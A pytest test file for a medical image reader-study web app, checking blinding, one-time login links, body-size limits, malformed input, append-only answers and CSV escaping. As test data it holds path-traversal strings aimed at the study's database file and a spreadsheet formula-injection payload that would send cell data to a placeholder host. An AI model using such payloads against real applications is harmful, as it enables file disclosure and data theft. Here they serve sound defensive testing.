"""The reader web app's rules: blinding, authentication, one-time links, bounded bodies, bad
requests, one row per answer, stored orders, and 20 readers answering at once against the
served app."""

from __future__ import annotations

import builtins
import io
import json
import socket
import sqlite3
import threading
import time
from pathlib import Path

import pytest
from conftest import READER_STUDIES, reader_run
from fastapi.testclient import TestClient

from medisyn.reader import db
from medisyn.reader.app import MAX_BODY, SECURITY_HEADERS, SESSION_COOKIE, create_app
from medisyn.reader.study import run

OCT = "oct-condition"
CHOLEC = "cholecystectomy-phase"


@pytest.fixture()
def study(tmp_path):
    cfg = reader_run(tmp_path)
    out = run(cfg)
    conn = db.connect(out)
    links = {
        "a": db.add_reader(conn, OCT, "A"),
        "b": db.add_reader(conn, OCT, "B"),
        "c": db.add_reader(conn, CHOLEC, "C"),
    }
    conn.close()
    client = TestClient(create_app(out))
    tokens = {who: (rid, token, login(client, token)) for who, (rid, token) in links.items()}
    conn = db.connect(out)
    rid, admin = db.add_reader(conn, None, "admin", admin=True)
    conn.close()
    tokens["admin"] = (rid, admin, {"Authorization": f"Bearer {admin}"})
    return out, tokens, client


def login(client, link_token: str) -> dict:
    """Open a reader's link as the page does: POST its token, keep the session cookie (as an
    explicit header, so one client can hold several readers)."""
    r = client.post("/api/session", headers={"Authorization": f"Bearer {link_token}"})
    assert r.status_code == 200, r.text
    session = r.cookies[SESSION_COOKIE]
    client.cookies.clear()
    return {"Cookie": f"{SESSION_COOKIE}={session}"}


def auth(tokens, who):
    return tokens[who][2]


def secrets_of(out: Path) -> set[str]:
    """Every value of the key a reader must never see: origins' words, file names, source ids."""
    conn = db.connect(out)
    found = {"real", "synthetic", "origin", "truth", "source_id"}
    for r in conn.execute("SELECT source_id, file FROM images"):
        found |= {r["source_id"], r["file"]}
    return found


def walk(client, tokens, who) -> list:
    """Every reader endpoint for one reader: session, each position, each image; returns responses."""
    h = auth(tokens, who)
    seen = [client.get("/api/session", headers=h)]
    n = seen[0].json()["items"]
    for pos in range(n):
        item = client.get(f"/api/items/{pos}", headers=h)
        seen += [item, client.get(f"/api/images/{item.json()['item']}", headers=h)]
    return seen


def test_no_reader_response_carries_truth_origin_or_file_names(study):
    out, tokens, client = study
    secret = secrets_of(out)
    responses = walk(client, tokens, "a")
    for r in responses:
        assert r.status_code == 200
        if r.headers["content-type"].startswith("application/json"):
            body = r.text
            assert not any(s in body for s in secret), body
    session = responses[0].json()
    assert set(session) == {
        "reader",
        "study",
        "question",
        "classes",
        "greyscale",
        "items",
        "answered",
        "resume_at",
        "submitted",
    }
    assert session["items"] == 15 and session["greyscale"] is True
    assert all(set(r.json()) == {"position", "item", "answer", "confidence"} for r in responses[1::2])
    # answering returns only counts
    item = responses[1].json()["item"]
    saved = client.put(f"/api/answers/{item}", headers=auth(tokens, "a"), json={"answer": "drusen", "confidence": 3})
    assert saved.json() == {"saved": True, "answered": 1}
    for path in ("/", "/static/reader.js", "/static/reader.css"):
        page = client.get(path)
        assert page.status_code == 200 and not any(s in page.text for s in secret - {"real"})


def test_every_served_image_has_identical_length_and_headers(study):
    out, tokens, client = study
    for who in ("a", "c"):
        images = walk(client, tokens, who)[2::2]
        headers = {json.dumps(sorted((k, v) for k, v in r.headers.items() if k != "date")) for r in images}
        assert len(headers) == 1, headers
        assert len({len(r.content) for r in images}) == 1
        h = dict(images[0].headers)
        assert h["content-type"] == "image/bmp" and "etag" not in h and "last-modified" not in h


def test_security_headers_on_pages_and_api(study):
    out, tokens, client = study
    for r in (client.get("/"), client.get("/api/session", headers=auth(tokens, "a")), client.get("/api/session")):
        for k, v in SECURITY_HEADERS.items():
            assert r.headers[k] == v
    assert "script-src 'self'" in SECURITY_HEADERS["Content-Security-Policy"]
    assert "unsafe-inline" not in SECURITY_HEADERS["Content-Security-Policy"]


def test_authentication_and_roles(study):
    out, tokens, client = study
    reader_paths = [("get", "/api/session"), ("get", "/api/items/0"), ("post", "/api/submit")]
    admin_paths = [("get", "/api/admin/progress"), ("get", "/api/admin/answers.csv")]
    for method, path in reader_paths + admin_paths:
        assert getattr(client, method)(path).status_code == 401
        assert getattr(client, method)(path, headers={"Authorization": "Bearer nope"}).status_code == 401
        assert getattr(client, method)(path, headers={"Authorization": tokens["a"][1]}).status_code == 401
    for method, path in reader_paths:
        assert getattr(client, method)(path, headers=auth(tokens, "admin")).status_code == 403
    for method, path in admin_paths:
        assert getattr(client, method)(path, headers=auth(tokens, "a")).status_code == 403
    progress = client.get("/api/admin/progress", headers=auth(tokens, "admin")).json()
    assert [p["name"] for p in progress] == ["A", "B", "C"]
    csv = client.get("/api/admin/answers.csv", headers=auth(tokens, "admin"))
    assert csv.status_code == 200 and csv.text.startswith("study,reader")


def test_readers_cannot_reach_other_studies_other_readers_or_files(study, monkeypatch):
    out, tokens, client = study
    conn = db.connect(out)
    other = conn.execute("SELECT item_id FROM items WHERE study = ?", (CHOLEC,)).fetchone()["item_id"]
    h = auth(tokens, "a")
    # B answers; A sees none of it
    b_item = client.get("/api/items/0", headers=auth(tokens, "b")).json()["item"]
    client.put(f"/api/answers/{b_item}", headers=auth(tokens, "b"), json={"answer": "drusen", "confidence": 5})
    a_pos = next(p for p in range(15) if client.get(f"/api/items/{p}", headers=h).json()["item"] == b_item)
    assert client.get(f"/api/items/{a_pos}", headers=h).json()["answer"] is None

    opened = []
    real_open = builtins.open

    def spy(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy)
    monkeypatch.setattr(Path, "read_bytes", lambda self: opened.append(str(self)) or b"")
    bad = [
        ("get", f"/api/images/{other}", None, 404),  # another study's item
        ("put", f"/api/answers/{other}", {"answer": "drusen", "confidence": 3}, 404),
        ("get", "/api/images/" + "A" * 22, None, 404),  # well-formed, not in the study
        ("get", "/api/images/..%2F..%2Fstudy.sqlite", None, 404),
        ("get", "/api/images/../../study.sqlite", None, 404),
        ("get", "/api/images/%2e%2e%2fstudy.sqlite%00aaaaaaaaaa", None, 404),
        ("get", "/api/images/study.sqlite%00aaaaaaaaaaaaa", None, 422),  # not an id's shape
        ("get", "/static/..%2Fstudy.sqlite", None, 404),
        ("get", "/static/../db.py", None, 404),
        ("get", "/api/items/999", None, 404),
        ("get", "/api/items/-1", None, 404),
        ("get", "/api/items/x", None, 422),
    ]
    for method, path, body, status in bad:
        r = getattr(client, method)(path, headers=h, **({"json": body} if body else {}))
        assert r.status_code == status, (path, r.status_code, r.text)
    assert not [p for p in opened if "images" in p or p.endswith(".sqlite")], opened
    monkeypatch.undo()

    item = client.get("/api/items/0", headers=h).json()["item"]
    malformed = [
        {"answer": "drusen"},
        {"answer": "drusen", "confidence": 0},
        {"answer": "drusen", "confidence": 6},
        {"answer": "drusen", "confidence": "high"},
        {"answer": "not a class", "confidence": 3},
        {"answer": "drusen", "confidence": 3, "truth": "drusen"},
        {"answer": "drusen", "confidence": 3, "active_ms": -5},
        ["drusen", 3],
    ]
    for body in malformed:
        r = client.put(f"/api/answers/{item}", headers=h, json=body)
        assert r.status_code == 422, (body, r.status_code)
    r = client.put(f"/api/answers/{item}", headers={**h, "Content-Type": "application/json"}, content=b"{not json")
    assert r.status_code == 422
    assert conn.execute("SELECT COUNT(*) FROM answers WHERE reader_id = ?", (tokens["a"][0],)).fetchone()[0] == 0


def test_one_row_per_answer_revisions_append_only_and_submit_locks(study):
    out, tokens, client = study
    h, rid = auth(tokens, "a"), tokens["a"][0]
    item = client.get("/api/items/3", headers=h).json()["item"]
    for answer, conf in (("drusen", 2), ("drusen", 2), ("normal findings", 4)):
        r = client.put(
            f"/api/answers/{item}", headers=h, json={"answer": answer, "confidence": conf, "active_ms": 1000}
        )
        assert r.status_code == 200
    conn = db.connect(out)
    rows = conn.execute("SELECT * FROM answers WHERE reader_id = ?", (rid,)).fetchall()
    assert len(rows) == 1
    row = rows[0]
    assert (row["answer"], row["confidence"], row["position"], row["revisions"], row["active_ms"]) == (
        "normal findings",
        4,
        3,
        3,
        3000,
    )
    assert row["first_shown_at"] is not None and row["first_shown_at"] <= row["last_edit_at"]
    revs = conn.execute("SELECT answer FROM revisions WHERE reader_id = ? ORDER BY rev_id", (rid,)).fetchall()
    assert [r[0] for r in revs] == ["drusen", "drusen", "normal findings"]
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("UPDATE revisions SET answer = 'x'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("DELETE FROM revisions")
    assert client.get("/api/items/3", headers=h).json()["answer"] == "normal findings"

    r = client.post("/api/submit", headers=h)
    assert r.status_code == 409 and "14 of 15" in r.json()["detail"]
    session = client.get("/api/session", headers=h).json()
    assert session["resume_at"] == 0 and session["answered"] == 1
    for pos in range(15):
        it = client.get(f"/api/items/{pos}", headers=h).json()["item"]
        client.put(f"/api/answers/{it}", headers=h, json={"answer": "drusen", "confidence": 1})
    assert client.post("/api/submit", headers=h).status_code == 200
    assert client.post("/api/submit", headers=h).status_code == 200  # a double submit changes nothing
    r = client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 5})
    assert r.status_code == 409
    assert client.get("/api/session", headers=h).json()["submitted"] is True
    assert conn.execute("SELECT COUNT(*) FROM answers WHERE reader_id = ?", (rid,)).fetchone()[0] == 15


def test_a_restart_gives_every_reader_the_same_order(study):
    out, tokens, client = study

    def order(c, who):
        return [c.get(f"/api/items/{p}", headers=auth(tokens, who)).json()["item"] for p in range(15)]

    before = {w: order(client, w) for w in ("a", "b")}
    assert before["a"] != before["b"] and sorted(before["a"]) == sorted(before["b"])
    restarted = TestClient(create_app(out))
    assert {w: order(restarted, w) for w in ("a", "b")} == before


def test_twenty_readers_at_once_lose_nothing_and_duplicate_nothing(tmp_path):
    import httpx
    import uvicorn

    cfg = reader_run(tmp_path, overrides=("reader.studies=[cholecystectomy-phase]",))
    out = run(cfg)
    conn = db.connect(out)
    readers = [db.add_reader(conn, CHOLEC, f"R{i}") for i in range(20)]
    classes = list(READER_STUDIES[CHOLEC][3])

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(out), log_level="warning", access_log=False))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.time() + 30
    while not server.started and time.time() < deadline:
        time.sleep(0.05)
    assert server.started
    errors, puts = [], []

    def read(k, token):
        try:
            with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=30) as c:
                c.post("/api/session", headers={"Authorization": f"Bearer {token}"}).raise_for_status()
                h = {}  # the session cookie, from the client's cookie jar
                n = c.get("/api/session", headers=h).json()["items"]
                for pos in range(n):
                    item = c.get(f"/api/items/{pos}", headers=h).json()["item"]
                    body = {"answer": classes[(k + pos) % 3], "confidence": 1 + pos % 5, "active_ms": 10}
                    for _ in range(2):  # every answer sent twice, as a double click would
                        r = c.put(f"/api/answers/{item}", headers=h, json=body)
                        r.raise_for_status()
                        puts.append(1)
                c.post("/api/submit", headers=h).raise_for_status()
        except Exception as exc:  # noqa: BLE001 - reported below with the reader
            errors.append((k, repr(exc)))

    threads = [threading.Thread(target=read, args=(k, tok)) for k, (_, tok) in enumerate(readers)]
    try:
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=120)
    finally:
        server.should_exit = True
        thread.join(timeout=10)
    assert not errors, errors[:3]
    n_items = conn.execute("SELECT COUNT(*) FROM items WHERE study = ?", (CHOLEC,)).fetchone()[0]
    counts = conn.execute("SELECT reader_id, COUNT(*), SUM(revisions) FROM answers GROUP BY reader_id").fetchall()
    assert len(counts) == 20 and all(c[1] == n_items and c[2] == 2 * n_items for c in counts)
    assert conn.execute("SELECT COUNT(*) FROM revisions").fetchone()[0] == len(puts) == 20 * n_items * 2
    assert conn.execute("SELECT COUNT(*) FROM readers WHERE submitted_at IS NOT NULL").fetchone()[0] == 20
    for rid, _ in readers:
        k = rid - 1
        rows = conn.execute("SELECT position, answer FROM answers WHERE reader_id = ?", (rid,)).fetchall()
        assert all(a == classes[(k + p) % 3] for p, a in rows)


def test_a_link_opens_once_expires_and_is_revoked_or_reissued(study):
    """#39.1: the link's token becomes a session once; the history's copy opens nothing after."""
    out, tokens, client = study
    rid, link, h = tokens["a"]
    bearer = {"Authorization": f"Bearer {link}"}
    assert client.post("/api/session", headers=bearer).status_code == 401  # used by the fixture
    assert client.get("/api/session", headers=bearer).status_code == 401  # a link token is no credential
    assert client.post("/api/session", headers={**bearer, **h}).status_code == 200  # back in the same browser
    assert client.get("/api/session", headers=h).json()["reader"] == "A"

    conn = db.connect(out)
    rid2, link2 = db.add_reader(conn, OCT, "D", expiry_hours=1)
    fresh = client.post("/api/session", headers={"Authorization": f"Bearer {link2}"})
    cookie = fresh.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/" in cookie and "secure" not in cookie
    assert "max-age" not in cookie and "expires" not in cookie  # ends with the browser session
    secure = TestClient(create_app(out), base_url="https://testserver")
    link3 = db.reissue(conn, rid2)
    assert "Secure" in secure.post("/api/session", headers={"Authorization": f"Bearer {link3}"}).headers["set-cookie"]

    _, late = db.add_reader(conn, OCT, "E", expiry_hours=1)
    conn.execute("UPDATE readers SET link_expires_at = ? WHERE name = 'E'", ("2000-01-01T00:00:00.000+00:00",))
    assert client.post("/api/session", headers={"Authorization": f"Bearer {late}"}).status_code == 401  # expired

    item = client.get("/api/items/0", headers=h).json()["item"]
    client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 3})
    db.revoke(conn, rid)
    assert client.get("/api/session", headers=h).status_code == 401
    assert client.get(f"/api/images/{item}", headers=h).status_code == 401
    new = db.reissue(conn, rid)
    assert client.get("/api/session", headers=h).status_code == 401  # the old session stays ended
    h2 = login(client, new)
    assert client.get("/api/session", headers=h2).json()["answered"] == 1  # the answers were kept

    admin = auth(tokens, "admin")
    assert client.get("/api/admin/progress", headers=admin).status_code == 200
    db.revoke(conn, tokens["admin"][0])
    assert client.get("/api/admin/progress", headers=admin).status_code == 401


def test_a_submitted_reader_gets_no_images(study):
    out, tokens, client = study
    h = auth(tokens, "b")
    items = [client.get(f"/api/items/{p}", headers=h).json()["item"] for p in range(15)]
    for item in items:
        client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 2})
    assert client.get(f"/api/images/{items[0]}", headers=h).status_code == 200
    assert client.post("/api/submit", headers=h).status_code == 200
    r = client.get(f"/api/images/{items[0]}", headers=h)
    assert r.status_code == 403 and r.headers["content-type"].startswith("application/json")
    assert client.get("/api/session", headers=h).json()["submitted"] is True  # the page can still say so


def test_a_version_1_database_is_migrated_and_its_links_work_once(study):
    out, tokens, client = study
    conn = db.connect(out)
    rid, link = db.add_reader(conn, OCT, "old")
    conn.execute("DROP TABLE sessions")
    for column in ("link_expires_at", "link_used_at", "revoked_at"):
        conn.execute(f"ALTER TABLE readers DROP COLUMN {column}")
    conn.execute("PRAGMA user_version = 0")
    conn.close()
    client = TestClient(create_app(out))
    h = login(client, link)
    assert client.get("/api/session", headers=h).json()["reader"] == "old"
    assert client.post("/api/session", headers={"Authorization": f"Bearer {link}"}).status_code == 401
    assert db.connect(out).execute("PRAGMA user_version").fetchone()[0] == db.SCHEMA_VERSION


def test_bodies_are_refused_unread_without_a_credential_and_when_too_long(study):
    """#39.2: 401 before the body is read, 413 above MAX_BODY, 411 for a body of unstated length."""
    out, tokens, client = study
    app = create_app(out)
    read = []

    async def spy(scope, receive, send):
        async def counted():
            message = await receive()
            read.append(len(message.get("body", b"")))
            return message

        await app(scope, counted, send)

    spied = TestClient(spy)
    h = auth(tokens, "a")
    item = client.get("/api/items/0", headers=h).json()["item"]
    big = b'{"answer": "drusen", "confidence": 3, "x": "' + b"a" * (4 << 20) + b'"}'
    typed = {"Content-Type": "application/json"}
    for headers, status in ((typed, 401), ({**typed, "Authorization": "Bearer nope"}, 401), ({**typed, **h}, 413)):
        read.clear()
        r = spied.put(f"/api/answers/{item}", headers=headers, content=big)
        assert r.status_code == status, (headers, r.status_code)
        assert sum(read) == 0, read  # not a byte of it reached the app
        for k, v in SECURITY_HEADERS.items():
            assert r.headers[k] == v
    r = spied.put(f"/api/answers/{item}", headers={**typed, **h}, content=iter([b'{"answer": "drusen", ', b"}"]))
    assert r.status_code == 411
    assert spied.post("/api/session", content=b"x" * (MAX_BODY + 1)).status_code == 413
    ok = spied.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 3})
    assert ok.status_code == 200


def test_odd_inputs_give_4xx_and_every_error_carries_the_security_headers(study, monkeypatch):
    """#39.4: 2^63 as a position, NaN as a confidence, and a 500 all reply with the same headers."""
    import medisyn.reader.app as app_module

    out, tokens, client = study
    h = auth(tokens, "a")
    item = client.get("/api/items/0", headers=h).json()["item"]
    replies = [
        (client.get(f"/api/items/{2**63}", headers=h), 404),
        (client.get(f"/api/items/{10**30}", headers=h), 404),
        (client.put(f"/api/answers/{item}", headers={**h, "Content-Type": "application/json"},
                    content=b'{"answer": "drusen", "confidence": NaN}'), 422),
        (client.put(f"/api/answers/{item}", headers={**h, "Content-Type": "application/json"},
                    content=b'{"answer": "drusen", "confidence": 3, "active_ms": Infinity}'), 422),
    ]  # fmt: skip
    monkeypatch.setattr(app_module, "vary", lambda data, key: 1 / 0)
    replies.append((TestClient(create_app(out)).get(f"/api/images/{item}", headers=h), 500))
    for r, status in replies:
        assert r.status_code == status, (r.status_code, r.text)
        for k, v in SECURITY_HEADERS.items():
            assert r.headers[k] == v
        body = json.loads(r.text)  # strict JSON: a NaN would not parse as a constant here
        assert "Traceback" not in r.text and "ZeroDivision" not in r.text and "NaN" not in r.text, body


def test_two_showings_of_one_image_hash_apart(study):
    """#39.3: hashing a reader's images pairs no repeat; length and headers stay equal."""
    import hashlib
    import io

    import numpy as np
    from PIL import Image

    out, tokens, client = study
    h = auth(tokens, "a")
    conn = db.connect(out)
    image_of = {r["item_id"]: (r["image_id"], r["file"]) for r in conn.execute(
        "SELECT t.item_id, t.image_id, i.file FROM items t JOIN images i ON i.image_id = t.image_id")}  # fmt: skip
    served = {}
    for pos in range(15):
        item = client.get(f"/api/items/{pos}", headers=h).json()["item"]
        served[item] = client.get(f"/api/images/{item}", headers=h).content
    assert len({hashlib.sha256(b).hexdigest() for b in served.values()}) == 15  # 12 images, 3 shown twice
    assert len({image_of[i][0] for i in served}) == 12 and len({len(b) for b in served.values()}) == 1
    for item, data in served.items():
        stored = np.asarray(Image.open(out / "images" / f"{image_of[item][1]}.bmp"), dtype=int)
        shown = np.asarray(Image.open(io.BytesIO(data)), dtype=int)
        diff = np.abs(shown - stored)
        assert diff.max() == 1 and 0 < (diff > 0).mean() < 0.1  # imperceptible, yet there
        assert data[:54] == (out / "images" / f"{image_of[item][1]}.bmp").read_bytes()[:54]
    again = client.get(f"/api/images/{item}", headers=h).content
    assert again == served[item]  # a showing is stable across reloads


def test_csv_cells_cannot_run_as_formulas(study):
    """#39.7: a reader name set to a formula is written as text in the admin's CSV."""
    out, tokens, client = study
    conn = db.connect(out)
    _, link = db.add_reader(conn, OCT, '=HYPERLINK("http://x.example/?"&A1,"open")')
    h = login(client, link)
    item = client.get("/api/items/0", headers=h).json()["item"]
    client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 3})
    text = client.get("/api/admin/answers.csv", headers=auth(tokens, "admin")).text
    import csv

    names = [row["reader_name"] for row in csv.DictReader(io.StringIO(text))]
    assert names == ['\'=HYPERLINK("http://x.example/?"&A1,"open")']
